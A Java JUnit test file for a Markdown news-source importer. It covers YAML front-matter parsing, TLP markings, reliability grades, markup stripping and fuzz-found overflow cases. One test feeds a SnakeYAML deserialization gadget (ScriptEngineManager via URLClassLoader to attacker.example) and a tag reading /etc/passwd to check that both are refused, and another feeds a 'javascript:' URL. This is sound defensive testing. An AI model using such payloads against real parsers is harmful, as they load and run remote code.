package org.briefdesk.source.importer;

import static org.assertj.core.api.Assertions.assertThat;
import static org.briefdesk.source.importer.Fixtures.onlyDocument;
import static org.briefdesk.source.importer.Fixtures.onlyRefusal;
import static org.briefdesk.source.importer.Fixtures.utf8;

import java.time.LocalDate;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class MarkdownImporterTest {

    private final SourceFileReader reader = new SourceFileReader(ImportLimits.defaults());

    private ImportedDocument read(String markdown) {
        return onlyDocument(reader.read("article.md", utf8(markdown)));
    }

    private String refusal(String markdown) {
        return onlyRefusal(reader.read("article.md", utf8(markdown)));
    }

    private static String withFrontMatter(String yaml) {
        return "---\n" + yaml + "\n---\nSome text of the article.\n";
    }

    @Test
    void front_matter_fills_every_field() {
        ImportedDocument document =
                onlyDocument(reader.read("kessmar-dredging.md", Fixtures.bytes("kessmar-dredging.md")));

        assertThat(document.title()).isEqualTo("Kessmar Port Authority Publishes Dredging Timetable");
        assertThat(document.outlet()).isEqualTo("Kessmar Harbour Bulletin");
        assertThat(document.authors()).isEqualTo("Petra Osei, Tomasz Wren");
        assertThat(document.url()).isEqualTo("https://bulletin.example/2025/04/dredging-timetable");
        assertThat(document.publishedDate()).isEqualTo(LocalDate.of(2025, 4, 2));
        assertThat(document.language()).isEqualTo("en");
        assertThat(document.tags()).containsExactly("ports", "dredging", "kessmar");
        assertThat(document.reliability()).isEqualTo('B');
        assertThat(document.credibility()).isEqualTo(3);
    }

    @Test
    void the_body_keeps_paragraphs_and_code_but_loses_markup() {
        ImportedDocument document =
                onlyDocument(reader.read("kessmar-dredging.md", Fixtures.bytes("kessmar-dredging.md")));

        assertThat(document.body()).isEqualTo(Fixtures.text("kessmar-dredging.expected.txt"));
        assertThat(document.strippedLines()).containsExactly("Share this:");
    }

    @Test
    void without_front_matter_the_first_heading_is_the_title() {
        ImportedDocument document = onlyDocument(reader.read("harbour-pilots.md", Fixtures.bytes("harbour-pilots.md")));

        assertThat(document.title()).isEqualTo("Harbour Pilots Threaten Strike Over Night Shifts");
        assertThat(document.body())
                .isEqualTo("Draft for the morning briefing.\n\n"
                        + "Pilots at the port of Kessmar voted on Monday to strike for 48 hours unless the authority\n"
                        + "withdraws a plan to add two night shifts a week.\n\n"
                        + "The union said safety, not pay, was the issue.");
        assertThat(document.outlet()).isNull();
        assertThat(document.reliability()).isNull();
    }

    @Test
    void an_underlined_heading_is_a_title_too() {
        ImportedDocument document = read("Pilots Vote to Strike\n=====================\n\nThe vote was close.");

        assertThat(document.title()).isEqualTo("Pilots Vote to Strike");
        assertThat(document.body()).isEqualTo("The vote was close.");
    }

    @Test
    void without_a_title_or_heading_the_first_line_that_is_not_blank_is_the_title() {
        ImportedDocument document = read("\n\n**Pilots** Vote to Strike\n\nThe vote was close.\n");

        assertThat(document.title()).isEqualTo("Pilots Vote to Strike");
        assertThat(document.body()).isEqualTo("The vote was close.");
    }

    @Test
    void front_matter_without_a_title_takes_the_first_heading() {
        ImportedDocument document = read("---\noutlet: Bulletin\n---\n\n## Pilots Vote\n\nThe vote was close.");

        assertThat(document.title()).isEqualTo("Pilots Vote");
        assertThat(document.outlet()).isEqualTo("Bulletin");
    }

    @Test
    void a_single_author_a_comma_separated_tag_string_and_the_short_key_names_are_read() {
        ImportedDocument document = read(withFrontMatter(
                "title: Pilots\nauthor: Lise Amundsen\ntags: ports, strikes , labour\ndate: 2025-05-06\nlang: no"));

        assertThat(document.authors()).isEqualTo("Lise Amundsen");
        assertThat(document.tags()).containsExactly("ports", "strikes", "labour");
        assertThat(document.publishedDate()).isEqualTo(LocalDate.of(2025, 5, 6));
        // YAML 1.1 would read "no" as false; here it stays the language code for Norwegian.
        assertThat(document.language()).isEqualTo("no");
    }

    @Test
    void scalars_stay_text_as_written() {
        ImportedDocument document = read(withFrontMatter("title: 007\noutlet: yes\ncredibility: \"2\""));

        assertThat(document.title()).isEqualTo("007");
        assertThat(document.outlet()).isEqualTo("yes");
        assertThat(document.credibility()).isEqualTo(2);
    }

    @Test
    void a_title_in_front_matter_repeated_as_the_first_heading_is_not_kept_in_the_body() {
        ImportedDocument document = read("---\ntitle: Pilots Vote\n---\n# Pilots Vote\n\nThe vote was close.");

        assertThat(document.body()).isEqualTo("The vote was close.");
    }

    @Test
    void empty_values_and_unknown_keys_are_ignored() {
        ImportedDocument document = read(withFrontMatter("title: Pilots\noutlet:\nreliability: ~\nlayout: post"));

        assertThat(document.outlet()).isNull();
        assertThat(document.reliability()).isNull();
    }

    @Test
    void a_timestamp_gives_its_date() {
        assertThat(read(withFrontMatter("title: T\npublished: 2025-05-06T23:30:00+02:00"))
                        .publishedDate())
                .isEqualTo(LocalDate.of(2025, 5, 6));
    }

    @Test
    void a_reliability_outside_a_to_f_is_refused() {
        assertThat(refusal(withFrontMatter("title: T\nreliability: Z")))
                .isEqualTo("The front matter field \u201creliability\u201d must be a letter from A to F (it is"
                        + " \u201cZ\u201d).");
    }

    @Test
    void a_tlp_marking_in_the_front_matter_is_kept_and_none_leaves_the_source_unmarked() {
        assertThat(read(withFrontMatter("title: T\ntlp: \"TLP:AMBER+STRICT\"")).tlp())
                .isEqualTo(org.briefdesk.marking.Tlp.AMBER_STRICT);
        assertThat(read(withFrontMatter("title: T\ntlp: green")).tlp()).isEqualTo(org.briefdesk.marking.Tlp.GREEN);
        assertThat(read(withFrontMatter("title: T")).tlp()).isNull();
        assertThat(read(withFrontMatter("title: T\ntlp: ~")).tlp()).isNull();
    }

    @Test
    void the_demo_library_has_one_source_marked_tlp_amber() throws Exception {
        var files = new org.springframework.core.io.support.PathMatchingResourcePatternResolver()
                .getResources("classpath:demo/sources/*.md");
        java.util.Map<String, org.briefdesk.marking.Tlp> marked = new java.util.TreeMap<>();
        for (var file : files) {
            ImportedDocument document = onlyDocument(reader.read(file.getFilename(), file.getContentAsByteArray()));
            if (document.tlp() != null) {
                marked.put(file.getFilename(), document.tlp());
            }
        }
        assertThat(files).hasSizeGreaterThan(10);
        assertThat(marked)
                .containsExactly(java.util.Map.entry(
                        "01-osterra-valmaris-open-keleva-talks.md", org.briefdesk.marking.Tlp.AMBER));
    }

    @Test
    void a_tlp_marking_that_is_not_one_of_tlp_2_is_refused() {
        assertThat(refusal(withFrontMatter("title: T\ntlp: orange")))
                .isEqualTo("The front matter field \u201ctlp\u201d must be a TLP 2.0 marking: TLP:CLEAR, TLP:GREEN,"
                        + " TLP:AMBER, TLP:AMBER+STRICT or TLP:RED (it is \u201corange\u201d).");
    }

    @Test
    void a_credibility_outside_1_to_6_is_refused() {
        assertThat(refusal(withFrontMatter("title: T\ncredibility: 9")))
                .isEqualTo("The front matter field \u201ccredibility\u201d must be a number from 1 to 6 (it is"
                        + " \u201c9\u201d).");
        assertThat(refusal(withFrontMatter("title: T\ncredibility: 2.5"))).contains("from 1 to 6");
    }

    @Test
    void invalid_yaml_is_refused_with_the_line() {
        assertThat(refusal("---\ntitle: T\ntags: [a, b\noutlet: X\n---\nText."))
                .startsWith("The front matter is not valid YAML (line ");
        assertThat(refusal("---\ntitle: \"Unclosed\nfoo: bar: baz\n---\nText."))
                .startsWith("The front matter is not valid YAML");
    }

    @Test
    void a_duplicate_key_is_refused() {
        assertThat(refusal(withFrontMatter("title: One\ntitle: Two")))
                .contains("not valid YAML")
                .contains("title");
    }

    @Test
    void yaml_that_asks_for_a_java_type_is_refused_not_constructed() {
        assertThat(refusal(withFrontMatter("title: !!java.io.File /etc/passwd")))
                .startsWith("The front matter is not valid YAML");
        assertThat(refusal(withFrontMatter(
                        "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                                + " [\"http://attacker.example/\"]]]]")))
                .startsWith("The front matter is not valid YAML");
    }

    @Test
    void front_matter_that_is_not_key_value_pairs_is_refused() {
        assertThat(refusal("---\n- one\n- two\n---\nText.")).contains("\"key: value\"");
    }

    @Test
    void front_matter_that_is_never_closed_is_refused() {
        assertThat(refusal("---\ntitle: T\n\nThe text.")).contains("never closed");
    }

    @Test
    void a_bad_date_url_language_or_list_where_a_value_belongs_is_refused() {
        assertThat(refusal(withFrontMatter("title: T\npublished: 2025-13-01"))).contains("YYYY-MM-DD");
        assertThat(refusal(withFrontMatter("title: T\ndate: 5 May 2025"))).contains("\u201cdate\u201d");
        assertThat(refusal(withFrontMatter("title: T\nurl: javascript:alert(1)")))
                .contains("http://");
        assertThat(refusal(withFrontMatter("title: T\nlanguage: English (UK)"))).contains("language code");
        assertThat(refusal(withFrontMatter("title: [a, b]"))).contains("\u201ctitle\u201d must be a single value");
    }

    @Test
    void a_file_with_no_title_anywhere_is_refused() {
        assertThat(refusal("---\noutlet: X\n---\n\n")).contains("no title");
    }

    @Test
    void links_images_emphasis_and_quotes_are_reduced_to_their_words() {
        ImportedDocument document = read("# T\n"
                + "> A **bold** and __strong__ claim, *said* _she_, with [a link](https://x.example/a_(b) \"t\").\n"
                + "> > Nested ![img](i.png) quote and [![badge](b.png)](https://x.example).\n"
                + "snake_case_name and 2 * 3 * 4 and \\*literal stars\\* stay.\n"
                + "Footnoted claim[^1] and a <br> break<sup>2</sup>.\n"
                + "[^1]: The footnote text.");

        assertThat(document.body())
                .isEqualTo("A bold and strong claim, said she, with a link.\n"
                        + "Nested quote and .\n"
                        + "snake_case_name and 2 * 3 * 4 and *literal stars* stay.\n"
                        + "Footnoted claim and a break2.\n"
                        + "The footnote text.");
    }

    @Test
    void boilerplate_wrapped_in_markup_is_still_stripped() {
        ImportedDocument document = read("# T\nText.\n\n**Share this:**\n\nLabels: [ports](/l/ports), [strikes](/l/s)");

        assertThat(document.body()).isEqualTo("Text.");
        assertThat(document.strippedLines()).containsExactly("Share this:", "Labels: ports, strikes");
    }

    @Test
    void the_markdown_extension_is_read_as_markdown() {
        ImportedDocument document =
                onlyDocument(reader.read("Notes.MARKDOWN", utf8("---\ntitle: From Front Matter\n---\nText.")));

        assertThat(document.title()).isEqualTo("From Front Matter");
    }

    /**
     * Found by ImportFuzzTest: a line of thousands of list markers overflowed the stack in a
     * regular expression, and the upload failed with a server error. Lines this long are rare but
     * legal; each is read as a short one would be.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource({
        "thematic break, '- ', 50000, ''",
        "table rule, '| --- ', 30000, ''",
        "block quotes, '> ', 50000, 'quoted'",
        "link address, x, 100000, 'a link'",
        "image address, x, 100000, ''"
    })
    void a_line_of_tens_of_thousands_of_markers_is_read_without_overflowing_the_stack(
            String what, String unit, int times, String kept) {
        String line = switch (what) {
            case "link address" -> "[a link](https://x.example/" + unit.repeat(times) + ")";
            case "image address" -> "![img](https://x.example/" + unit.repeat(times) + ")";
            case "block quotes" -> unit.repeat(times) + "quoted";
            default -> unit.repeat(times);
        };

        ImportedDocument document = read("# Title\n\n" + line + "\n\nText.");

        assertThat(document.title()).isEqualTo("Title");
        assertThat(document.body()).isEqualTo(kept.isEmpty() ? "Text." : kept + "\n\nText.");
    }
}
